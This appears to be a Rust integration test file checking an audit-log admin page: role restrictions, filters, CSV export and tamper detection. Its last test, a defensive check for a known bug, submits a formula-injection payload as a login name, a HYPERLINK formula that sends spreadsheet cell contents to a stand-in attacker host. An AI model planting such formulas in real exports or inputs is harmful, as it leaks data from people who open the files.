//! The audit log through HTTP: only the audit administrator reads and exports it.

use axum::http::StatusCode;
use gongkai_domain::role::Role;

use crate::support::app;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn audit_administrator_sees_the_log_and_exports_csv() {
    let t = app().await;
    t.user("auditor", &[(Role::AuditAdmin, "sc")]).await;
    // Something worth auditing: a failed login from someone else.
    let r = t.client().login("mallory", "Wrong-Password-1").await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);

    let mut s = t.logged_in("auditor", None).await;
    assert!(s.totp_secret.is_some(), "an audit administrator must enrol");
    let c = &mut s.client;

    let r = c.get("/admin/audit").await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert!(r.body.contains("<h1>审计日志</h1>"), "{}", r.body);
    for action in [
        "<code>login.failure</code>",
        "<code>login.success</code>",
        "<code>totp.enable</code>",
        "<code>password.change</code>",
        "<code>user.create</code>",
    ] {
        assert!(r.body.contains(action), "{action} missing: {}", r.body);
    }
    assert!(r.body.contains("mallory"), "{}", r.body);
    assert!(r.body.contains("<strong>失败</strong>"), "{}", r.body);

    // Filters: by action prefix and result.
    let r = c.get("/admin/audit?action=login&result=failure").await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert!(r.body.contains("<code>login.failure</code>"), "{}", r.body);
    assert!(!r.body.contains("<code>login.success</code>"), "{}", r.body);
    assert!(!r.body.contains("<code>user.create</code>"), "{}", r.body);
    let r = c.get("/admin/audit?actor=no-such-actor").await;
    assert!(r.body.contains("没有符合条件的记录"), "{}", r.body);
    // A malformed date is a form error, not a crash.
    let r = c.get("/admin/audit?from=2026-13-45").await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    assert!(r.body.contains("YYYY-MM-DD"), "{}", r.body);

    // CSV export.
    let r = c.get("/admin/audit.csv").await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert!(r.header("content-type").unwrap().starts_with("text/csv"), "{:?}", r.headers);
    assert!(r.header("content-disposition").unwrap().contains("attachment"), "{:?}", r.headers);
    let body = r
        .body
        .strip_prefix('\u{feff}')
        .unwrap_or_else(|| panic!("CSV without BOM: {:?}", &r.body[..20.min(r.body.len())]));
    let mut lines = body.lines();
    assert_eq!(
        lines.next(),
        Some("seq,at,actor_id,actor,ip,action,target_kind,target_id,org_id,success,before,after,hash")
    );
    let rows: Vec<&str> = lines.collect();
    assert!(rows.iter().any(|l| l.contains(",mallory,") && l.contains(",login.failure,")), "{body}");
    // The export itself is audited.
    assert!(t.audit_actions().await.contains(&("audit.export".to_owned(), true)));

    // Chain verification from the page.
    let r = c.post_form("/admin/audit/verify", &[("_csrf", &s.csrf)]).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert!(r.body.contains("校验通过"), "{}", r.body);
    t.db.store.tamper_audit_for_test(1, "org.delete").await.unwrap();
    let r = s.client.post_form("/admin/audit/verify", &[("_csrf", &s.csrf)]).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert!(r.body.contains("校验失败"), "{}", r.body);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn audit_log_is_forbidden_to_other_staff() {
    let t = app().await;
    t.user("editor", &[(Role::Editor, "sc")]).await;
    t.user("sysadmin", &[(Role::SystemAdmin, "sc")]).await;
    let mut editor = t.logged_in("editor", None).await;
    for path in ["/admin/audit", "/admin/audit.csv"] {
        let r = editor.client.get(path).await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "{path}: {}", r.body);
        assert!(r.body.contains("<code>forbidden</code>"), "{}", r.body);
        assert!(r.body.contains("审计日志仅对安全审计员开放"), "{}", r.body);
        assert!(!r.body.contains("login.success"), "{}", r.body);
    }
    let r = editor.client.post_form("/admin/audit/verify", &[("_csrf", &editor.csrf)]).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    // Not even the system administrator (三员分立).
    let mut admin = t.logged_in("sysadmin", None).await;
    let r = admin.client.get("/admin/audit").await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    // Nor an API token of an editor.
    let (_, token) = t.token("editor").await;
    let r = t.client().get_with("/admin/audit.csv", &[("authorization", &format!("Bearer {token}"))]).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    // Anonymous visitors are sent to the login page.
    let r = t.client().get("/admin/audit").await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    assert!(r.location().starts_with("/admin/login?next="));
}

/// BUG (see report): the CSV export is meant for spreadsheet programs (it starts with a BOM), but
/// cells are written verbatim, so text an anonymous visitor typed as a user name on the login form
/// becomes a formula when the audit administrator opens the file (CSV/formula injection).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn audit_csv_neutralises_formulas() {
    let t = app().await;
    t.user("auditor", &[(Role::AuditAdmin, "sc")]).await;
    let r = t.client().login("=HYPERLINK(\"http://evil.example/?\"&A1)", "Wrong-Password-1").await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);
    let r = t.client().login("@SUM(1+1)", "Wrong-Password-1").await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);
    let mut s = t.logged_in("auditor", None).await;
    let r = s.client.get("/admin/audit.csv").await;
    assert_eq!(r.status, StatusCode::OK);
    for bad in [",=", ",\"=", ",@", ",\"@", ",+", ",-"] {
        assert!(!r.body.contains(bad), "cell starting with {bad:?}: {}", r.body);
    }
}
